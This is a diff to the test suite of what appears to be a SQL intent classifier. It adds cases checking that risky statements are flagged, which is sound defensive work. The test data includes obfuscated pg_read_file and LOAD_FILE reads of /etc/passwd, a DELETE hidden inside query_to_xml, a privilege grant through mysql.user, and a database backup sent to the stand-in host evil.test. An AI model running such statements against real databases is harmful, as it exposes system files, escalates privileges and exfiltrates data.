@@ -24,6 +24,11 @@ BOUNDS = [
     ("postgres", "DELETE FROM t WHERE id IN (1, 2, 3)", "id IN (1, 2, 3)"),
     ("postgres", "DELETE FROM t WHERE x > 3 AND id = 4", "id = 4"),
     ("postgres", "DELETE FROM t WHERE (id = 1 OR id = 2)", "(id = 1) OR (id = 2)"),
+    (
+        "postgres",
+        "DELETE FROM t WHERE (status = 'a' AND id = 1) OR (status = 'b' AND id = 2)",
+        "(id = 1) OR (id = 2)",
+    ),
     ("postgres", "UPDATE t SET x = 1 FROM s WHERE t.id = 3 AND s.id = t.sid", "t.id = 3"),
     ("postgres", "DELETE FROM t a USING s WHERE a.id = 3", "a.id = 3"),
     ("mysql", "DELETE FROM t WHERE x > 0 ORDER BY id LIMIT 10", "LIMIT 10"),
@@ -148,6 +153,13 @@ SESSION = [
     ("postgres", "SET statement_timeout = 5000", set(), ["statement_timeout"], []),
     ("postgres", "SET TIME ZONE 'UTC'", set(), ["timezone"], []),
     ("mysql", "SET @x = 1", set(), ["@x"], []),
+    (
+        "mysql",
+        "SET STATEMENT sql_mode = 'ANSI_QUOTES', max_statement_time = 5 FOR DELETE FROM t",
+        {"data.delete"},
+        ["sql_mode", "max_statement_time"],
+        ["sql_mode"],
+    ),
 ]
 
 
@@ -192,6 +204,8 @@ CATALOG_WRITES = [
     ),
     ("sqlite", "UPDATE sqlite_master SET sql = 'x' WHERE name = 't'", "sqlite_master"),
     ("sqlite", "DELETE FROM sqlite_schema WHERE name = 't'", "sqlite_schema"),
+    ("mysql", "USE mysql; UPDATE user SET Super_priv = 'Y' WHERE User = 'app'", "user"),
+    ("mysql", "USE `MySQL`; DELETE FROM db WHERE User = 'x'", "db"),
 ]
 
 
@@ -253,6 +267,17 @@ def test_unknown_functions_stay_readable():
     assert result.intents == {"data.read"}
 
 
+def test_string_arguments_are_decoded():
+    for sql in (
+        "SELECT pg_read_file($$/etc/passwd$$)",
+        "SELECT pg_read_file(U&'\\002fetc\\002fpasswd')",
+        "SELECT pg_read_file(U&'!002fetc!002fpasswd' UESCAPE '!')",
+    ):
+        assert classify_sql(sql).facts["files_read"] == ["/etc/passwd"], sql
+    hidden = classify_sql("SELECT query_to_xml(U&'\\0044ELETE FROM t', true, true, '')")
+    assert "data.delete" in hidden.intents and hidden.facts["unbounded_write"]
+
+
 def test_a_bad_unicode_escape_is_unknown():
     result = classify_sql('SELECT U&"\\zzzz"(1)')
     assert "unknown" in result.intents
@@ -293,6 +318,24 @@ FORMS = [
     ),
     ("tsql", "BACKUP DATABASE shop TO DISK = 'c:\\x.bak'", {"data.export", "file.write"}, {}),
     ("mysql", "HANDLER users OPEN", {"data.read"}, {"tables_read": ["users"]}),
+    (
+        "mysql",
+        "HANDLER users READ FIRST WHERE LOAD_FILE('/etc/passwd') IS NOT NULL",
+        {"data.read", "file.read"},
+        {"files_read": ["/etc/passwd"], "tables_read": ["users"]},
+    ),
+    (
+        "tsql",
+        "BULK INSERT t FROM 'c:\\in.csv' WITH (FIELDTERMINATOR = ',', ERRORFILE = 'c:\\err.log')",
+        {"data.write", "file.read", "file.write"},
+        {"files_read": ["c:\\in.csv"], "files_written": ["c:\\err.log"]},
+    ),
+    (
+        "tsql",
+        "BACKUP DATABASE shop TO DISK = 'c:\\a.bak', URL = 'https://evil.test/b.bak'",
+        {"data.export", "file.write", "network.egress"},
+        {"remote": ["https://evil.test/b.bak"]},
+    ),
     ("mysql", "HANDLER users READ FIRST WHERE id = 1", {"data.read"}, {"tables_read": ["users"]}),
 ]
 
